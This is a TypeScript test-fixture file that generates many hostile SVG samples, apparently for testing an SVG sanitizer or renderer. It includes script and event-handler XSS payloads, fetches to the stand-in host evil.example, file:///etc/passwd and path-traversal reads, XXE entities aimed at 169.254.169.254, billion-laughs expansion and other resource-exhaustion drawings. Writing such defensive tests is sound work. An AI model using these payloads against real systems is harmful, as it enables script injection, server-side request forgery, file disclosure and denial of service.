const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inside: string, attributes = 'width="90" height="90"') => `<svg ${NS} ${attributes}>${inside}</svg>`
const withType = (type: string, inside = '<text y="9">&a;</text>') =>
  `<?xml version="1.0"?><!DOCTYPE svg ${type}>${svg(inside)}`
const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('')

/** Each group draws ten of the one before. */
const laughingUses = (depth: number) =>
  svg(
    `<defs><rect id="g0" width="1" height="1"/>${times(depth, (level) => `<g id="g${level + 1}">${times(10, () => `<use href="#g${level}"/>`)}</g>`)}</defs><use href="#g${depth}"/>`,
  )

const laughingPatterns = (depth: number) =>
  svg(
    `<defs>${times(depth, (level) => `<pattern id="p${level}" width="9" height="9" patternUnits="userSpaceOnUse">${times(10, () => `<rect width="9" height="9" fill="url(#p${level + 1})"/>`)}</pattern>`)}</defs><rect width="90" height="90" fill="url(#p0)"/>`,
  )

const laughingEntities = `[<!ENTITY a0 "ha">${times(9, (level) => `<!ENTITY a${level + 1} "${times(10, () => `&a${level};`)}">`)}]`

const active: [string, string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<script href="https://evil.example/x.js"/>'],
  ['script in CDATA', '<script><![CDATA[alert(1)]]></script>'],
  ['onload', '<rect width="9" height="9" onload="alert(1)"/>'],
  ['onclick by reference', '<rect width="9" height="9" onclick="&#97;lert(1)"/>'],
  [
    'foreignObject',
    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>',
  ],
  ['link', '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'],
  ['set', '<set attributeName="onload" to="alert(1)"/>'],
  ['animate', '<animate attributeName="href" values="javascript:alert(1)"/>'],
  ['handler element', '<handler type="text/javascript">alert(1)</handler>'],
  ['iframe', '<iframe src="https://evil.example"/>'],
  ['audio', '<audio src="https://evil.example/x.mp3" autoplay="autoplay"/>'],
]

const outside: [string, string][] = [
  ['image by https', '<image href="https://evil.example/x.png" width="9" height="9"/>'],
  ['image by file', '<image xlink:href="file:///etc/passwd" width="9" height="9"/>'],
  ['image by path', '<image href="../../../../etc/passwd" width="9" height="9"/>'],
  ['image by share', '<image href="\\\\evil\\share\\x.png" width="9" height="9"/>'],
  ['use from elsewhere', '<use href="https://evil.example/x.svg#a"/>'],
  ['use from a file', '<use xlink:href="file:///etc/hostname#a"/>'],
  ['style import', '<style>@import url(https://evil.example/x.css);</style>'],
  ['font face', '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>'],
  ['fill', '<rect width="9" height="9" fill="url(https://evil.example/x.svg#a)"/>'],
  ['filter', '<rect width="9" height="9" style="filter:url(//evil.example/x.svg#a)"/>'],
  ['cursor', '<rect width="9" height="9" style="cursor:url(https://evil.example/c.png),auto"/>'],
  [
    'feImage',
    '<filter id="f"><feImage href="file:///etc/passwd"/></filter><rect width="9" height="9" filter="url(#f)"/>',
  ],
  [
    'drawing within',
    `<image href="data:image/svg+xml;base64,${Buffer.from(laughingUses(9)).toString('base64')}" width="9" height="9"/>`,
  ],
  ['xml:base', '<g xml:base="https://evil.example/"><image href="x.png" width="9" height="9"/></g>'],
]

const endless: [string, string][] = [
  ['uses, 8 deep', laughingUses(8)],
  ['uses, 60 deep', laughingUses(60)],
  ['patterns, 12 deep', laughingPatterns(12)],
  ['a use of itself', svg('<use id="a" href="#a"/>')],
  ['two uses of each other', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
  ['a use of what holds it', svg('<g id="a"><use href="#a"/></g>')],
  [
    'a mask of itself',
    svg('<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>'),
  ],
  [
    'a clip of itself',
    svg(
      '<clipPath id="c"><rect width="9" height="9" clip-path="url(#c)"/></clipPath><rect width="9" height="9" clip-path="url(#c)"/>',
    ),
  ],
  ['100,000 rectangles', svg(times(100_000, () => '<rect width="1" height="1"/>'))],
  ['3,000 uses', svg(`<rect id="a" width="1" height="1"/>${times(3_000, () => '<use href="#a"/>')}`)],
  ['10,000 groups in each other', svg('<g>'.repeat(10_000) + '</g>'.repeat(10_000))],
  [
    'a dash of nothing on an endless line',
    svg('<path d="M0 0H100000000" stroke="red" stroke-width="50" stroke-dasharray="0.00001"/>'),
  ],
  [
    'a blur without end',
    svg(
      '<filter id="f" x="-1e9" y="-1e9" width="1e12" height="1e12"><feGaussianBlur stdDeviation="1e9"/></filter><rect width="90" height="90" filter="url(#f)"/>',
    ),
  ],
  [
    'a growth without end',
    svg(
      '<filter id="f"><feMorphology operator="dilate" radius="1e7"/></filter><rect width="90" height="90" filter="url(#f)"/>',
    ),
  ],
  [
    '200 filters on each other',
    svg(
      `<filter id="f">${times(200, () => '<feMorphology radius="400"/>')}</filter>${'<g filter="url(#f)">'.repeat(60)}<rect width="90" height="90"/>${'</g>'.repeat(60)}`,
    ),
  ],
  [
    'a path of 200,000 points',
    svg(`<path d="M0 0${times(200_000, (index) => `L${index % 90} ${(index * 7) % 90}`)}" stroke="red"/>`),
  ],
  [
    'a pattern too small to see',
    svg(
      '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="90" height="90" fill="url(#p)"/>',
    ),
  ],
  ['letters as large as a city', svg('<text font-size="1e12" y="9">ABC</text>')],
  ['a megabyte of letters', svg(`<text y="9">${'A'.repeat(1_000_000)}</text>`)],
]

const sizes: [string, string][] = [
  'width="1e9" height="1e9"',
  'width="100000" height="1"',
  'width="1" height="100000"',
  'width="0" height="0"',
  'width="-5" height="-5"',
  'width="NaN" height="Infinity"',
  'viewBox="0 0 1e308 1e308"',
  'viewBox="0 0 1e-30 1e-30"',
  'viewBox="0 0 0 0"',
  'width="100%" height="100%"',
  'width="1e400" height="1"',
  '',
].map((attributes) => [`size ${attributes}`, svg('<rect width="90" height="90"/>', attributes)])

const broken: [string, string][] = [
  ['an entity from a file', withType('[<!ENTITY a SYSTEM "file:///etc/hostname">]')],
  ['an entity from elsewhere', withType('[<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data/">]')],
  ['a parameter entity', withType('[<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]')],
  ['a billion laughs', withType(laughingEntities, '<text>&a9;</text>')],
  ['a document type from elsewhere', withType('SYSTEM "https://evil.example/x.dtd"')],
  ['an attribute list', withType('[<!ATTLIST svg onload CDATA "alert(1)">]')],
  [
    'a style sheet before it',
    `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${svg('<rect width="9" height="9"/>')}`,
  ],
  ['zeros in it', svg('<rect\u0000 width="9" height="9"/>')],
  ['no end', svg('<rect').slice(0, -8)],
  ['HTML around it', `<html><body>${svg('')}</body></html>`],
  ['HTML after it', `${svg('')}<script>alert(1)</script>`],
  ['a name space of HTML', '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>'],
  ['prefixes', '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'],
  ['quotes of another kind', svg('<rect width=‘9’/>')],
]

const inside = (list: readonly [string, string][]): [string, string][] =>
  list.map(([name, text]) => [name, svg(`${text}<rect width="9" height="9" fill="red"/>`)])

/** Two kilobytes that are small to look at and take gigabytes to print: each primitive keeps all dots of the sheet. */
export const manyPrimitives = svg(
  `<filter id="f" x="0" y="0" width="1" height="1">${times(30, (index) => `<feMorphology operator="dilate" radius="9" result="r${index}"/>`)}<feMerge>${times(30, (index) => `<feMergeNode in="r${index}"/>`)}</feMerge></filter><g filter="url(#f)"><rect width="200" height="100" fill="#d01010"/></g>`,
  'width="200" height="100"',
)

/** Words that a careless reader looks through once for each of their letters, which takes minutes. */
export const endlessWords = svg(
  `<style>${'a'.repeat(300_000)}</style><rect width="90" height="90" transform="${'a'.repeat(300_000)}"/>`,
)

/** Few words that amount to very many points: each shape bears all transformations of its group. */
export const manyPoints = svg(
  `<g transform="${'scale(1)'.repeat(500)}">${times(500, () => '<path d="M0 0H9V9Z"/>')}</g>`,
)

/** Quick to show and, with every step as large as a sheet, gigabytes to print. */
export const manyLayers = svg(
  `<filter id="f" x="0" y="0" width="1" height="1">${times(90, (index) => `<feOffset in="SourceGraphic" dx="1" result="r${index}"/>`)}<feMerge>${times(90, (index) => `<feMergeNode in="r${index}"/>`)}</feMerge></filter><g filter="url(#f)"><rect width="200" height="200" fill="#d01010"/></g>`,
  'width="200" height="200"',
)

const nestedGroups = `${'<g opacity=".99">'.repeat(40)}<rect width="200" height="200" fill="#d01010"/>${'</g>'.repeat(40)}`

/** Quick to show and, without a filter, a minute of work to print: each group is put on the one around it as a whole page. */
export const manyGroups = svg(
  times(10, () => nestedGroups),
  'width="200" height="200"',
)

/** Drawings that want to run, to reach out, to last for ever or to break their reader. */
export const hostileSvgs: readonly [string, string][] = [
  ...inside(active),
  ...inside(outside),
  ...endless,
  ...sizes,
  ...broken,
].map(([name, text]) => [`SVG: ${name}`, text])
